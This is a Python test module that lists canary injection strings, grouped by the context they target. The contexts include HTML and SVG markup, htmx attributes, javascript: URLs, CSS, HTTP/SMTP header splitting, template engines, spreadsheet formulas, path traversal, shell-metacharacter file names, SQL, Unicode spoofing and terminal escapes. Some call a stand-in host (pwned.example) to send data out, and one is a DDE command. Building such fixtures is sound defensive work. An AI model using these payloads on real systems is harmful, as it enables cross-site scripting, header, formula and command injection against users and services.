"""Strings of our own making that would do something where they are not kept from it, by what they aim at.

What gets through says so: `window.pwned` is set, `/pwned` is asked for, a header `X-Pwned` stands in an answer or a
mail, 51317 (which is 7331 times 7) is in a text, or a terminal's colour changes.
"""

from collections.abc import Mapping

SUM = "51317"
"""What a template's engine makes of `7331*7`."""

_JS = "window.pwned=1;fetch('/pwned')"
_LINE, _PARAGRAPH, _NEXT, _NUL = "\u2028", "\u2029", "\x85", "\x00"
_RLO, _RLI, _PDI, _ZERO, _JOINER, _BOM = "\u202e", "\u2067", "\u2069", "\u200b", "\u200d", "\ufeff"
_ESC, _BELL, _CSI = "\x1b", "\x07", "\x9b"

ELEMENTS = (
    f"<script>{_JS}</script>",
    f"<ScRiPt/x>{_JS}</sCrIpT\t>",
    "<script src=/pwned></script>",
    f"</td></tr></table><script>{_JS}</script>",
    f"<img src=/pwned onerror={_JS}>",
    f"<img/src='/pwned'/onerror=\"{_JS}\"/>",
    "<img srcset='/pwned 1x'>",
    "<iframe src=/pwned></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{_JS}&lt;/script&gt;'></iframe>",
    f'<iframe src="javascript:parent.{_JS}"></iframe>',
    "<object data=/pwned></object>",
    "<embed src=/pwned>",
    "<link rel=stylesheet href=/pwned>",
    "<link rel=prefetch href=//pwned.example/x>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content='0;url=/pwned'>",
    "<form action=/pwned><button autofocus>Go",
    "<input type=image src=/pwned>",
    f"<input autofocus onfocus={_JS}>",
    f"<details open ontoggle={_JS}>",
    f"<body onload={_JS}>",
    f"<video src=/pwned onerror={_JS}></video>",
    f"<audio><source src=/pwned onerror={_JS}></audio>",
    "<video poster=/pwned></video>",
    f"<marquee onstart={_JS}>",
    f"<template><script>{_JS}</script></template>",
    f'<div style="position:fixed;inset:0;z-index:9;background:url(/pwned)" onmouseover={_JS}>',
    "<plaintext>",
    "<!-- <b>a comment that never ends",
    f"<![CDATA[<script>{_JS}</script>",
    f"<?php echo 'x' ?><%= 7331*7 %><script>{_JS}</script>",
    "<button form=x formaction=/pwned>",
    "<portal src=/pwned>",
    f"<x onclick={_JS} tabindex=0 autofocus onfocus={_JS}>",
)
"""Where text is expected."""

ENDINGS = (
    f"</title><script>{_JS}</script>",
    f"</textarea><script>{_JS}</script>",
    f"</style><script>{_JS}</script>",
    f"</script><script>{_JS}</script>",
    f"</noscript><img src=/pwned onerror={_JS}>",
    f"--><script>{_JS}</script><!--",
    f"--!><img src=/pwned onerror={_JS}>",
    f"</option></select><script>{_JS}</script>",
    f"</svg><script>{_JS}</script>",
    f"</xmp></listing></plaintext><script>{_JS}</script>",
    f"]]><script>{_JS}</script>",
    f'<noscript><p title="</noscript><img src=/pwned onerror={_JS}>">',
)
"""Out of an element whose content is not parsed."""

ATTRIBUTES = (
    f'" autofocus onfocus="{_JS}',
    f"' autofocus onfocus='{_JS}",
    f'"><script>{_JS}</script>',
    f"'><img src=/pwned onerror={_JS}>",
    f"` onmouseover=`{_JS}",
    f"x onload={_JS} ",
    '" style="background:url(/pwned)',
    '" formaction="/pwned',
    '" hx-get="/pwned" hx-trigger="load',
    '" srcdoc="<script>parent.pwned=1</script>',
    f'"/><svg/onload={_JS}><a title="',
)
"""Out of an attribute."""

HTMX = (
    "<div hx-get=/pwned hx-trigger=load></div>",
    "<div data-hx-get='/pwned' data-hx-trigger='load'></div>",
    "<div hx-post=/console/sign-out hx-trigger='load delay:1ms'></div>",
    f'<div hx-on:load="{_JS}" hx-on::load="{_JS}"></div>',
    "<div hx-trigger='every 1s' hx-get='//pwned.example/'></div>",
    f"<div hx-vals='js:{{a:({_JS})}}' hx-get=/console hx-trigger=load></div>",
    "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>",
    "<a hx-boost=true href=/pwned autofocus>",
)
"""Out of the library that our own pages use."""

FOREIGN = (
    f"<svg onload={_JS}></svg>",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
    "<svg><use href='/pwned#x'/></svg>",
    "<svg><image href=/pwned width=9 height=9></svg>",
    f"<svg><a href='javascript:{_JS}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{_JS}'/></foreignObject></svg>",
    f"<math><mtext></mtext><mglyph><style></style><img src=/pwned onerror={_JS}></mglyph></math>",
    f'<math href="javascript:{_JS}">x</math>',
    f'<svg></p><style><a title="</style><img src=/pwned onerror={_JS}>">',
)
"""SVG and MathML."""

ADDRESSES = (
    f"javascript:{_JS}",
    f"JaVa\tScRiPt:{_JS}",
    f"\x01javascript:{_JS}",
    f"java\nscript:{_JS}",
    f"javascript://%0a{_JS}",
    "data:text/html,<script>parent.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{_JS}",
    "//pwned.example/x",
    "/\\pwned.example",
    "https://pwned.example/login",
    "https:pwned.example",
    "https://shop.example@pwned.example/",
    f"[click](javascript:{_JS})",
    "![x](/pwned)",
    "[x]: /pwned 'title'",
    "<https://pwned.example/x>",
    f"<a href=javascript:{_JS}>x</a>",
)
"""Where a link is expected, and Markdown that makes one."""

STYLES = (
    "red;background:url(/pwned)",
    "}body{background:url(/pwned)}",
    "@import '/pwned';",
    f"expression({_JS})",
    "\\75rl(/pwned)",
    "<style>@import url(/pwned);</style>",
    "</style><style>*{background:url('/pwned')}</style>",
)
"""In a style."""

SCRIPTS = (
    f"';{_JS}//",
    f'";{_JS}//',
    f"\\';{_JS}//",
    f"${{{_JS}}}",
    f"{_LINE}{_JS}{_PARAGRAPH}",
    f"</script><!--<script>{_JS}//",
    f'{{"__proto__":{{"pwned":1}},"constructor":"{_JS}"}}',
)
"""In a script or in JSON."""

ENCODED = (
    f"&lt;script&gt;{_JS}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_JS}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{_JS}&#60;/script&#62;",
    "&#x3C;img src=/pwned onerror=pwned=1&#x3E;",
    "%3Cscript%3Ewindow.pwned%3D1%3C%2Fscript%3E",
    "%253Cscript%253Ewindow.pwned%253D1%253C%252Fscript%253E",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "\u2039script\u203awindow.pwned=1\u2039/script\u203a",
    "&Tab;java&NewLine;script&colon;pwned=1",
)
"""What becomes markup if it is decoded once too often."""

HEADERS = (
    "a\r\nX-Pwned: 1",
    "a\nX-Pwned: 1",
    "a\rX-Pwned: 1",
    f"a{_NEXT}X-Pwned: 1",
    f"a{_LINE}X-Pwned: 1",
    f"a{_PARAGRAPH}X-Pwned: 1",
    "a\x0bX-Pwned: 1\x0cX-Pwned: 2",
    "a\r\n\r\n<script>window.pwned=1</script>",
    "a\r\nBcc: pwned@pwned.example",
    "a\r\n.\r\nMAIL FROM:<pwned@pwned.example>",
    "a%0d%0aX-Pwned:%201",
    "a\u560d\u560aX-Pwned: 1",
    "\u560d\u560aSet-Cookie: pwned=1",
    "a\r\nSet-Cookie: pwned=1",
    "=?utf-8?q?a=0d=0aX-Pwned:_1?=",
    "=?utf-8?b?YQ0KWC1Qd25lZDogMQ==?=",
    '"a" <pwned@pwned.example>, b',
    "a; filename=pwned.html",
    "\n.\n",
)
"""Out of the header of a mail or of an answer, or out of a command of SMTP."""

TEMPLATES = (
    "{{ 7331*7 }}",
    "{% for x in range(9) %}{{ 7331*7 }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ brand.__init__.__globals__ }}",
    "{{ '%s'|format(7331*7) }}",
    "{# a comment that never ends",
    "{% raw %}",
    "{{",
    "%}{{ 7331*7 }}{%",
    "${7331*7}",
    "#{7331*7}",
    "<%= 7331*7 %>",
    "{{ '<script>window.pwned=1</script>'|safe }}",
    "{0.__class__.__init__.__globals__}",
    "%(pwned)s %s %n %x",
)
"""For an engine that compiles data."""

CELLS = (
    '=HYPERLINK("http://pwned.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+7331*7",
    "-7331*7",
    "@SUM(7331*7)",
    "\t=7331*7",
    "\r=7331*7",
    "\n=7331*7",
    "\uff1d7331*7",
    "\uff0b7331*7",
    'x",=7331*7,"',
    "x;=7331*7;",
    "x,+7331*7",
    "x\n=7331*7",
    " =7331*7",
    f"{_BOM}=7331*7",
    f"{_ZERO}=7331*7",
    "'=7331*7",
    '"=7331*7"',
    '=IMPORTXML("http://pwned.example","//a")',
    "|=7331*7",
)
"""For a program of spreadsheets."""

PATHS = (
    "../../etc/pwned",
    "..\\..\\pwned",
    "/etc/passwd",
    "....//....//pwned",
    "%2e%2e%2fpwned",
    "..%c0%afpwned",
    "C:\\pwned.txt",
    "\\\\pwned.example\\share",
    "con.csv",
    ".htaccess",
    "a.csv\x00.html",
    "a/b?c#d",
    "..",
    ".",
    "a.csv;rm -rf pwned",
    "$(touch pwned)",
    "`touch pwned`",
    "| touch pwned",
    "-rf",
    "--pwned",
)
"""As the name of a file, or a part of an address."""

LETTERS = (
    f"gnp.{_RLO}gpj.exe",
    f"{_RLI}abc{_PDI}def",
    f"pay{_ZERO}pal",
    f"a{_JOINER}b{_BOM}c\u2060d\u00ade",
    f"{_NUL}a{_NUL}b",
    "a\ud800b",
    "\udfff",
    "\u0410\u0440\u0440\u04cf\u0435",
    "\u212a\u2100\u33c2\ufb03",
    "a" + "\u0300" * 200,
    "\U000e0041\U000e0042",
    "\ufffe\uffff",
    "\u1160\u3164\u115f",
    "\u0130\u0131\u017f\u00df",
    "\u062f\u0639\u0648\u0629 abc \u05d0\u05d1",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\u200f\u200e\u061c",
    "x" * 5000,
    "\u6f22" * 3000,
    "W" * 900 + "i" * 900,
    "a " * 4000,
    "<" * 2000,
    "&" * 2000,
    "\"'" * 1000,
    "(" * 3000,
    "",
    " ",
    "null",
    "NaN",
    "-0",
    "1e309",
    "0x7fffffff",
    "9" * 400,
    "True",
    "' OR '1'='1",
    "'; DROP TABLE customers; --",
    "%' OR key LIKE '%",
    "a%_b\\%",
    "*:* AND (",
)
"""What letters alone can do; and what is no attack but looks like a value of another kind."""

TERMINAL = (
    f"{_ESC}[31mred{_ESC}[0m",
    f"{_ESC}]0;pwned{_BELL}",
    f"{_ESC}]8;;http://pwned.example{_ESC}\\click{_ESC}]8;;{_ESC}\\",
    f"{_ESC}[2J{_ESC}[H",
    f"{_CSI}31mred",
    f"{_ESC}]52;c;cHduZWQ={_BELL}",
    "a\b\b\b\bpwned",
    "first\rpwned",
    "[bold red]rich[/bold red] [link=http://pwned.example]x[/link]",
    "[/]",
)
"""For a terminal, and for the library that writes there."""

BY_AIM: Mapping[str, tuple[str, ...]] = {
    "elements": ELEMENTS,
    "endings": ENDINGS,
    "attributes": ATTRIBUTES,
    "htmx": HTMX,
    "foreign": FOREIGN,
    "addresses": ADDRESSES,
    "styles": STYLES,
    "scripts": SCRIPTS,
    "encoded": ENCODED,
    "headers": HEADERS,
    "templates": TEMPLATES,
    "cells": CELLS,
    "paths": PATHS,
    "letters": LETTERS,
    "terminal": TERMINAL,
}
STRINGS = tuple(dict.fromkeys(one for some in BY_AIM.values() for one in some))
